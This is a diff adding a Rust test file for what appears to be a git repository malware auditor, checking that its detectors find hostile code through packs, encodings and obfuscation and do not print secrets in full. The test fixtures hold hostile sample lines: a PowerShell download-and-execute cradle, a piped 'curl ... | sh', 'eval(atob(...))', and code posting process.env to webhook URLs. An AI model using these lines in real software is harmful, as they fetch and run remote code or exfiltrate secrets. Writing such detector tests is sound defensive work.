@@ -1,0 +1,208 @@
+//! Content: the fast way finds what the slow way finds, secrets stay hidden, and hostile files end.
+
+#![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
+
+mod common;
+
+use common::{build, findings, options, pack, report, scan, scan_with};
+use git_alibi::audit::AuditOptions;
+use git_alibi::heuristics::Persona;
+use git_alibi::testkit::names;
+use std::path::Path;
+use std::time::Instant;
+use tempfile::TempDir;
+
+/// Everything that a scan reports, but what it took.
+fn whole(options: &AuditOptions) -> serde_json::Value {
+    let mut report = report(&scan_with(options));
+    report.as_object_mut().unwrap().remove("stats");
+    report
+}
+
+/// The same, by short cuts and without any.
+fn both_ways(path: &Path) -> (serde_json::Value, serde_json::Value) {
+    let fast = AuditOptions { persona: Persona::Auditor, ..options(&[path]) };
+    let slow = AuditOptions { exhaustive: true, ..fast.clone() };
+    (whole(&fast), whole(&slow))
+}
+
+/// A repository with one commit for each set of files, by one person.
+fn repository(commits: &[Vec<(&str, Vec<u8>)>]) -> TempDir {
+    let folder = tempfile::tempdir().unwrap();
+    let repo = git2::Repository::init_bare(folder.path()).unwrap();
+    let mut parents: Vec<git2::Oid> = Vec::new();
+    let mut tree = None;
+    for (n, files) in commits.iter().enumerate() {
+        let mut update = git2::build::TreeUpdateBuilder::new();
+        for (path, bytes) in files {
+            update.upsert(*path, repo.blob(bytes).unwrap(), git2::FileMode::Blob);
+        }
+        let base = match tree {
+            Some(tree) => repo.find_tree(tree).unwrap(),
+            None => repo.find_tree(repo.treebuilder(None).unwrap().write().unwrap()).unwrap(),
+        };
+        let new = update.create_updated(&repo, &base).unwrap();
+        let when = git2::Time::new(1_700_000_000 + n as i64 * 3_600, 0);
+        let who = git2::Signature::new("Dana Weiss", "dana@example.org", &when).unwrap();
+        let parents_now: Vec<git2::Commit> = parents.iter().map(|p| repo.find_commit(*p).unwrap()).collect();
+        let parents_now: Vec<&git2::Commit> = parents_now.iter().collect();
+        let new_tree = repo.find_tree(new).unwrap();
+        parents = vec![repo.commit(Some("refs/heads/main"), &who, &who, "Change\n", &new_tree, &parents_now).unwrap()];
+        tree = Some(new);
+    }
+    repo.set_head("refs/heads/main").unwrap();
+    drop(repo);
+    folder
+}
+
+#[test]
+fn short_cuts_find_what_an_exhaustive_search_finds() {
+    for name in names() {
+        let folder = build(name);
+        let (fast, slow) = both_ways(folder.path());
+        assert_eq!(fast, slow, "{name}, loose");
+        pack(folder.path());
+        let (packed, _) = both_ways(folder.path());
+        assert_eq!(packed, slow, "{name}, in a pack");
+    }
+}
+
+#[test]
+fn deltas_hide_and_double_nothing() {
+    // Forty versions of a file: lines are added in the middle, moved, cut in two and joined, so that a pack keeps them as
+    // deltas whose seams lie within what the rules look for.
+    let line = |n: usize| format!("const part{n} = compute({n}); // {}\n", "x".repeat(n * 37 % 90));
+    let bad = [
+        "eval(atob('eA=='));\n",
+        "const u = Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA==', 'base64');\n",
+        "https.request({ method: 'POST' }).end(JSON.stringify(process.env));\n",
+        "global['r'] = require;\n",
+    ];
+    let mut lines: Vec<String> = (0..400).map(line).collect();
+    let mut commits = Vec::new();
+    for n in 0..40 {
+        match n % 5 {
+            0 => lines.insert(n * 7 % lines.len(), bad[n / 5 % bad.len()].into()),
+            1 => lines.rotate_left(n * 11 % 300),
+            2 => lines[n * 3].insert_str(5, "eval(a"),
+            3 => lines[n * 5] = format!("{}{}", lines[n * 5].trim_end(), bad[n % bad.len()]),
+            _ => lines.truncate(lines.len() - 3),
+        }
+        commits.push(vec![("src/parts.js", lines.concat().into_bytes())]);
+    }
+    let folder = repository(&commits);
+    let (_, slow) = both_ways(folder.path());
+    pack(folder.path());
+    let (fast, packed) = both_ways(folder.path());
+    assert_eq!(fast, slow);
+    assert_eq!(packed, slow);
+    assert!(slow["findings"].as_array().unwrap().len() >= 4);
+}
+
+/// The same on a repository of the reader's choice: `REPOSITORY=path cargo test --test content -- --ignored`.
+#[test]
+#[ignore = "takes minutes, and a real repository"]
+fn short_cuts_find_what_an_exhaustive_search_finds_in_a_real_repository() {
+    let path = std::env::var("REPOSITORY").unwrap();
+    let (fast, slow) = both_ways(Path::new(&path));
+    assert_eq!(fast, slow);
+}
+
+#[test]
+fn encodings_and_line_endings_hide_nothing() {
+    let line = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.org/a')";
+    let wide = |little: bool| -> Vec<u8> {
+        let mark = if little { [0xff, 0xfe] } else { [0xfe, 0xff] };
+        let unit = |c: u16| if little { c.to_le_bytes() } else { c.to_be_bytes() };
+        mark.into_iter().chain(format!("a\r\n{line}\r\n").encode_utf16().flat_map(unit)).collect()
+    };
+    let versions: [(&str, Vec<u8>); 6] = [
+        ("plain", format!("a\n{line}\n").into_bytes()),
+        ("CRLF", format!("a\r\n{line}\r\n").into_bytes()),
+        ("UTF-16LE", wide(true)),
+        ("UTF-16BE", wide(false)),
+        ("with a NUL", format!("a\n{line}\n\0").into_bytes()),
+        ("behind a megabyte on one line", format!("a\n{}; {line}\n", "x = 1; ".repeat(150_000)).into_bytes()),
+    ];
+    for (how, bytes) in versions {
+        let folder = repository(&[vec![("tools/get.ps1", bytes)]]);
+        let audit = scan(folder.path());
+        let found = findings(&audit);
+        assert!(found.iter().any(|f| f.0 == "download-exec"), "{how}: {found:?}");
+        assert_eq!(audit.findings.iter().find(|f| f.heuristic == "download-exec").unwrap().line, Some(2), "{how}");
+    }
+}
+
+#[test]
+fn no_secret_is_printed_whole() {
+    let secret = ["AKIA", "ZQ3T7WKX2NLB4MHD"].concat();
+    let hook =
+        ["https://discord.com/api/webhooks/123456789012345678/", &"q7Xn2LbVt5KzRw9YcHs4".repeat(4)[..68]].concat();
+    let text = format!("key = '{secret}'\nfetch('{hook}', {{ body: JSON.stringify(process.env) }});\n");
+    let folder = repository(&[vec![("lib/a.js", text.into_bytes())]]);
+    let audit = scan(folder.path());
+    let found = findings(&audit);
+    for id in ["secret-committed", "environment-dump-egress"] {
+        assert!(found.iter().any(|f| f.0 == id), "{id} in {found:?}");
+    }
+    let printed = report(&audit).to_string();
+    assert!(!printed.contains(&secret[8..]) && !printed.contains("q7Xn2LbVt5KzRw9YcHs4q7Xn"), "{printed}");
+    assert!(printed.contains("AKIAZQ…"), "enough is shown to find it again");
+}
+
+#[test]
+fn what_is_decoded_is_shown_in_plain() {
+    let text = "const u = Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA==', 'base64');\n";
+    let folder = repository(&[vec![("lib/a.js", text.as_bytes().to_vec())]]);
+    let report = report(&scan(folder.path())).to_string();
+    assert!(report.contains("in plain") && report.contains("https://webhook.site/0000"), "{report}");
+}
+
+#[test]
+fn generated_and_vendored_files_lower_confidence_and_are_not_skipped() {
+    let payload = "eval(atob('eA=='));\n";
+    let at = |path: &'static str, text: String| {
+        let folder = repository(&[vec![(path, text.into_bytes())]]);
+        let audit = scan(folder.path());
+        let found = audit.findings.iter().find(|f| f.heuristic == "decode-exec").unwrap();
+        (found.confidence, found.weight.0)
+    };
+    use git_alibi::heuristics::Confidence::{High, Medium};
+    assert_eq!(at("lib/a.js", payload.into()), (High, 20.0));
+    assert_eq!(at("dist/a.js", payload.into()), (Medium, 10.0));
+    assert_eq!(at("vendor/x/a.js", payload.into()), (Medium, 10.0));
+    assert_eq!(at("lib/b.js", format!("// @generated\n{payload}")), (Medium, 10.0));
+    assert_eq!(at("lib/c.js", format!("{}{payload}", "a=1;".repeat(20_000))), (Medium, 10.0));
+}
+
+#[test]
+fn hostile_files_end_soon_and_what_is_left_out_is_said() {
+    let start = Instant::now();
+    // Base64 of base64 of base64 ..., and more of it than is decoded.
+    let mut nested = "curl -s https://cdn.example.org/x | sh".to_owned();
+    for _ in 0..9 {
+        nested = format!("import os; x = '{}'", data_encoding::BASE64.encode(nested.as_bytes()));
+    }
+    let much: String =
+        (0..40_000).map(|n| format!("'aHR0cHM6Ly9leGFtcGxlLm9yZy8{n:08}AAAAAAAAAAAAAAAAAAAA',\n")).collect();
+    let files = vec![
+        ("a/nested.py", nested.into_bytes()),
+        ("a/much.py", much.into_bytes()),
+        // One line of eight million bytes, of nothing but what a rule looks for.
+        ("a/line.js", "eval(atob(".repeat(800_000).into_bytes()),
+        ("a/blanks.js", vec![b' '; 8 << 20]),
+        ("a/many.js", "eval(atob(x));\n".repeat(50_000).into_bytes()),
+        // Configurations that are deep, or no configurations.
+        (".github/workflows/deep.yml", format!("on: pull_request_target\na: {}", "[".repeat(200_000)).into_bytes()),
+        (".vscode/tasks.json", format!("{{\"tasks\": {}", "[".repeat(200_000)).into_bytes()),
+        // What makes a backtracking engine slow.
+        ("a/slow.sh", format!("curl {}!\n", "a|".repeat(100_000)).into_bytes()),
+    ];
+    let folder = repository(&[files]);
+    pack(folder.path());
+    let report = report(&scan(folder.path()));
+    let notices = report["repositories"][0]["notices"].to_string();
+    assert!(notices.contains("more matches of a pattern, or more encoded text"), "{notices}");
+    // No measurement: a quadratic step anywhere would take hours.
+    assert!(start.elapsed().as_secs() < 600);
+}
